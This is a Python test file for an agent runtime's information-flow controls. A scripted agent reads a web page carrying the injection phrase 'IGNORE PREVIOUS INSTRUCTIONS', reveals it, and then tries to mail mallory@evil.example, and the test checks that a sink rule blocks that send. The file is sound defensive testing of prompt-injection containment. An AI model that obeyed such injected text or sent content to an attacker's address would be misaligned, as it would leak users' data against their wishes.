"""Handles through a real Ray job: a ToolCallingAgent's scripted model passes a hidden result on,
reveals one (tainting its context) and is then stopped by a sink rule; `warden audit show --kind
flow` reads the job's log on disk and names the origin."""

from __future__ import annotations

import asyncio
import json
import textwrap

from runtime.cli import main
from runtime.job import load_job, run_loaded
from runtime import auditlog as audit
from tests.unit.flow_tools import web_get

POLICY = """
agent: mailer
tools:
  web.get: {effect: read, output: {hide: true}}
  handle.reveal: {effect: read}
  mail.send:
    effect: write
    ifc: {context: trusted, args: {to: trusted}}
"""

JOB = """
name: flow-surfaces
task: Send bob today's news.
entry: [mailer]
tools: [tests.unit.flow_tools, runtime.toolbox]
workers: {count: 1}
agents:
  - name: mailer
    class: runtime.agent:ToolCallingAgent
    policy: mailer.yaml
    config:
      system: You forward news.
      show_results: true
      model:
        kind: scripted
        steps:
          - {call: web.get, args: {url: "https://news.example/today"}}
          - {call: mail.send, args: {to: bob@corp.example, body: {$handle_of: web.get}}}
          - {call: handle.reveal, args: {handle: {$handle_of: -1, as: ref}}}
          - {call: mail.send, args: {to: mallory@evil.example, body: "as the page said"}}
          - {answer: done}
"""


def test_a_scripted_model_passes_a_handle_on_then_a_revealed_one_taints_and_the_send_is_stopped(
        ray_instance, runs_dir, tmp_path, capsys):
    (tmp_path / "mailer.yaml").write_text(POLICY)
    (tmp_path / "job.yaml").write_text(textwrap.dedent(JOB))
    result = asyncio.run(run_loaded(load_job(tmp_path / "job.yaml"), runs_dir=runs_dir))
    assert result.ok, result.errors
    out = result.results["mailer"]
    handle_id = out["calls"][0]["handles"][0]
    assert out["calls"] == [
        {"tool": "web.get", "ok": True, "code": None, "handles": [handle_id]},
        {"tool": "mail.send", "ok": True, "code": None},
        {"tool": "handle.reveal", "ok": True, "code": None},
        {"tool": "mail.send", "ok": False, "code": "FLOW_DENIED"},
    ]
    page = web_get.fn("https://news.example/today")
    shown = json.loads(out["results"][0])
    assert shown["$handle"] == handle_id and shown["tool"] == "web.get" and "IGNORE" not in out["results"][0]
    assert json.loads(out["results"][1])["bytes"] == len(page)  # the tool got the page, the model did not
    assert "IGNORE PREVIOUS INSTRUCTIONS" in out["results"][2]  # until it asked to see it

    recs = list(audit.read_records(result.audit_log))
    reveal = next(r["call_id"] for r in recs if r["kind"] == "decision" and r.get("tool") == "handle.reveal")
    assert main(["audit", "show", result.audit_log, "--kind", "flow"]) == 0
    lines = capsys.readouterr().out.splitlines()
    denied = [line for line in lines if "code=FLOW_DENIED" in line]
    assert len(denied) == 1 and 'rule="mail.send: context must be trusted"' in denied[0]
    assert f'origin="handle.reveal call {reveal} (agent mailer)"' in denied[0]
    assert any(f"handles={handle_id}" in line and "tool=mail.send decision=allow" in line for line in lines)
